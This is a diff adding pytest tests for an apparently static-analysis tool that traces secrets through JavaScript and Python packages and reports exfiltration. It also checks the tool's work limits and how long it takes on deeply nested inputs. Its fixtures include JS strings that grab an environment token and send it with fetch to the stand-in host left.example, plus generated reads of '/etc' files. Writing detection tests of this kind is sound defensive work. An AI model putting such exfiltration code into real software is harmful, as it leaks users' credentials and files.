@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from fimci import readers, sides
+from fimci.capabilities import passing
 from fimci.look import take
-from fimci.model import Capability, Record
+from fimci.model import Capability, Function, Record, Unread
 from fimci.reach import settled
 from fimci.snapshot import Entry
 
@@ -349,3 +352,101 @@ def test_a_client_that_says_who_asks_is_none() -> None:
         'exports.list = () => send("list", grab());'
     )
     assert told(package(index, "exports.grab = () => process.env.LEFT_TOKEN;", send)) == set()
+
+
+def test_rings_of_functions_end() -> None:
+    ring = {
+        f"f{at}.js": (
+            f'const {{ pass }} = require("./f{(at + 1) % 9}");\n'
+            "exports.pass = async (x) => { const k = await pass(x); return k; };"
+        )
+        for at in range(9)
+    }
+    assert told({"package.json": MANIFEST, "index.js": 'require("./f0").pass(1);', **ring}) == set()
+    ring["f5.js"] += '\nexports.send = (x) => fetch("https://left.example/", { body: x });'
+    ring["f4.js"] = (
+        'const { pass, send } = require("./f5");\n'
+        "exports.pass = async (x) => { send(x); const k = await pass(x); return k; };"
+    )
+    load = 'const { pass } = require("./f0");\nconst { grab } = require("./grab");\n'
+    index = f"{load}exports.a = () => pass(grab());"
+    files = {**package(index, GRAB["member"]), **ring}
+    assert told(files) == {("f5.js", "exfiltration", "grab.js -> left.example")}
+
+
+def chain_of(count: int) -> dict[tuple[str, str], Function]:
+    """Return functions of which each gives what the next one gives, and hands on to it what it is given."""
+    found = [
+        Function(
+            path=f"f{at}.js",
+            name="f",
+            passes=((f"./f{at + 1}#f", "return"), ("#0", f"0@./f{at + 1}#f")),
+        )
+        for at in range(count)
+    ]
+    found.append(Function(path=f"f{count}.js", name="f", passes=(("#0", "sends"), ("secret", "return"))))
+    found.append(Function(path="i.js", name="", passes=(("./f0#f", "0@./f0#f"),)))
+    return {(one.path, one.name): one for one in found}
+
+
+def means(path: str, call: tuple[str, str]) -> tuple[str, str] | None:
+    del path
+    return f"{call[0].removeprefix('./')}.js", call[1]
+
+
+def test_thousands_of_functions_are_followed() -> None:
+    found = passing.passed(chain_of(20_000), means)
+    last = ("f20000.js", "f")
+    assert ("exfiltration", last, last, ("i.js", "")) in found.chains
+    assert not found.stopped
+
+
+def test_what_is_not_followed_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(passing, "_WORK", 100)
+    assert passing.passed(chain_of(200), means).stopped
+    monkeypatch.setattr(passing, "_WORK", 1_000)
+    monkeypatch.setattr(passing, "_OF_ONE", 1)
+    assert passing.passed(chain_of(2), means).stopped
+    monkeypatch.setattr(passing, "_OF_ONE", 9)
+    files = package(PASS["taken out"], GRAB["member"])
+    assert not [one for one in records(files) if isinstance(one, Unread)]
+    monkeypatch.setattr(passing, "_OF_ONE", 0)
+    assert {one.part for one in records(files) if isinstance(one, Unread)} == {"calls"}
+
+
+def test_everybody_calls_everybody() -> None:
+    names = [f"f{at}" for at in range(120)]
+    edges = tuple(edge for name in names for edge in ((f"./{name}#f", "return"), ("#0", f"0@./{name}#f")))
+    found = {(f"{name}.js", "f"): Function(path=f"{name}.js", name="f", passes=edges) for name in names}
+    found["f7.js", "f"] = Function(path="f7.js", name="f", passes=(*edges, ("secret", "return")))
+    found["f8.js", "f"] = Function(path="f8.js", name="f", passes=(*edges, ("#0", "sends")))
+    assert not passing.passed(found, means).stopped
+
+
+@pytest.mark.parametrize("path", ["a.js", "a.py"])
+def test_many_functions_that_return_something_are_looked_at_or_it_is_said(path: str) -> None:
+    one = {
+        "a.js": "exports.f{0} = () => require('fs').readFileSync('/etc/{0}');\n",
+        "a.py": "def f{0}():\n    return open('/etc/{0}', 'w')\n\n",
+    }[path]
+    text = "".join(one.replace("{0}", str(at)) for at in range(900))
+    found = take([entry(path, text)], sides.recipe(code=True), readers.ALL)
+    assert "more calls of other files than are followed" in {r.why for r in found if isinstance(r, Unread)}
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.js", 'import { f } from "./f";\n' + "f(" * 20_000),
+        ("a.js", 'import { f } from "./f";\n' + "const k = f(k);\n" * 20_000),
+        ("a.js", 'import { f } from "./f";\n' + "const " * 50_000 + "f("),
+        ("a.js", 'import { f } from "./f";\nfetch(1);\n' + "f(" * 3_000 + ")" * 3_000),
+        ("a.py", "from .f import f\n" + "f(" * 20_000),
+        ("a.py", "from .f import f\n" + "k = f(k)\n" * 20_000),
+        ("a.py", "from .f import f\n" + "a, " * 50_000 + "= f("),
+    ],
+)
+def test_hostile_texts_end_soon(path: str, text: str) -> None:
+    start = time.process_time()  # where a run of letters is divided in all ways, it takes hours
+    take([entry(path, text)], sides.recipe(code=True), readers.ALL)
+    assert time.process_time() - start < 20
